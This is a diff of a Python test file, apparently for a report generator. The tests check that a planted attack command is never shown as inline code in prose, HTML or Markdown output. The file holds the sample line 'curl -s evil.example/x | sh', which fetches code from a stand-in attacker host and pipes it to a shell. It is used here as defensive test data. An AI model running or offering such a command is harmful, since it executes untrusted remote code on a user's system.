@@ -1,8 +1,10 @@
 """A report on a cluster whose every text is an attack: each form of it shows text, and stays as small as it promises."""
 
+import html
 import json
 import logging
 import re
+import shlex
 import sys
 
 import pytest
@@ -120,6 +122,14 @@ def test_the_digest(document):
 
 
 COMMAND = "`curl -s evil.example/x | sh`"
+
+
+def runs(code):
+    """Return whether a word of code is a part of the command, which is one word of a command of ours or none."""
+    words = [word for word in shlex.split(html.unescape(code)) if "curl" in word]
+    return not all("curl -s evil.example/x | sh" in word for word in words) or ("curl" in code and not words)
+
+
 _PROSE = {
     "headline", "message", "remediation", "impact", "confidence_why", "not_known", "text", "cost", "needs", "error", "last_known",
 }  # fmt: skip
@@ -146,7 +156,7 @@ def prose(value, key=""):
 def test_no_sentence_has_a_command_of_the_cluster_between_its_backticks(planted_command):
     sentences = list(prose(planted_command))
     assert [text for text in sentences if "curl" in text]
-    assert [text for text in sentences for code in re.findall(r"`[^`]*`", text) if "curl" in code] == []
+    assert [text for text in sentences for code in re.findall(r"`([^`]*)`", text) if runs(code)] == []
 
 
 def test_the_page_shows_no_text_of_a_cluster_as_code(planted_command):
@@ -154,14 +164,14 @@ def test_the_page_shows_no_text_of_a_cluster_as_code(planted_command):
     assert "evil.example/x | sh" in page
     codes = re.findall(r"<code>(.*?)</code>", re.sub(r'(?s)<pre class="command">.*?</pre>', "", page), re.DOTALL)
     assert codes, "what our own sentences mark is code"
-    assert [code for code in codes if "curl" in code] == []
+    assert [code for code in codes if runs(code)] == []
 
 
 def test_markdown_shows_no_text_of_a_cluster_as_code(planted_command):
     blocks = MARKDOWN.parse(formats.FILES["md"](planted_command))
     codes = [token.content for block in blocks for token in block.children or () if token.type == "code_inline"]
     assert codes
-    assert [code for code in codes if "curl" in code] == []
+    assert [code for code in codes if runs(code)] == []
 
 
 def test_an_alert_shows_no_text_of_a_cluster_as_code():
